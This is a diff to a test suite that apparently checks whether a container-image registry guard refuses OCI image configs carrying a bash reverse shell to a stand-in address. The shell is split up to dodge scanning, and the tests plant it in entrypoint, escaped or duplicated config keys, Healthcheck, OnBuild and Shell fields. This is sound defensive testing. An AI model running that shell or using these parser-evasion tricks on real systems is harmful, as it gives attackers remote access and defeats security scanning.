@@ -9,6 +9,8 @@ import { lodash, lodashAdvisory, openPlace, type Place, tarOf } from './guarded.
 const deadline = { timeout: 30_000, interval: 20 };
 const shell = `bash -c 'ba${''}sh -i >& /dev/t${''}cp/192.0.2.1/4444 0>&1'`;
 const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
+const imageConfig = 'application/vnd.oci.image.config.v1+json';
+const layerType = 'application/vnd.oci.image.layer.v1.tar+gzip';
 let place: Place;
 let count = 0;
 let repository: string;
@@ -117,6 +119,40 @@ describe('an image', () => {
     const { tar, bytes } = await vulnerable();
     const config = file(change(configOf([tar])), undefined, 'application/octet-stream');
     expect(await push(config, [{ type: 'text/html', bytes }])).toMatch(/^403 /);
+  });
+
+  const command = JSON.stringify(['sh', '-c', shell]);
+  it.each([
+    ['in other letters', `"config":{"entrypoint":${command}}`],
+    ['in other letters, with escapes', `"config":{"\\u0043MD":${command}}`],
+    ['in an object that stands twice, which Go reads as one', `"config":{"Cmd":${command}},"config":{}`],
+    ['in an object in other letters', `"Config":{"Cmd":${command}}`],
+  ])('with a command %s is refused as unread', async (_what, part) => {
+    const tar = await tarOf({ run: '#!/bin/sh\n' });
+    const config = file(`{${part},${configOf([tar]).slice(1)}`, undefined, imageConfig);
+    expect(await push(config, [{ type: layerType, bytes: gzipSync(tar) }])).toMatch(
+      /^403 not judged, so refused by the rule unscanned: .*(?:twice|which some would read as another)/,
+    );
+  });
+
+  it.each([
+    ['checks its health', { Healthcheck: { Test: ['CMD-SHELL', shell] } }],
+    ['is run when another is built on it', { OnBuild: [`RUN ${shell}`] }],
+    ['is the shell of what is run', { Shell: ['sh', '-c', shell] }],
+    [
+      'is run, where something else is of no form that engines read',
+      { Cmd: ['sh', '-c', shell], ExposedPorts: 5 },
+    ],
+  ])('with a command that %s is judged by it', async (_what, more) => {
+    const tar = await tarOf({ run: '#!/bin/sh\n' });
+    const config = file(
+      JSON.stringify({ ...JSON.parse(configOf([tar])), config: more }),
+      undefined,
+      imageConfig,
+    );
+    expect(await push(config, [{ type: layerType, bytes: gzipSync(tar) }])).toMatch(
+      /^403 denied by policy \(malware\): .*reverse-shell-bash/,
+    );
   });
 
   it('with a layer that only other engines unpack is refused as unread, with what to do', async () => {
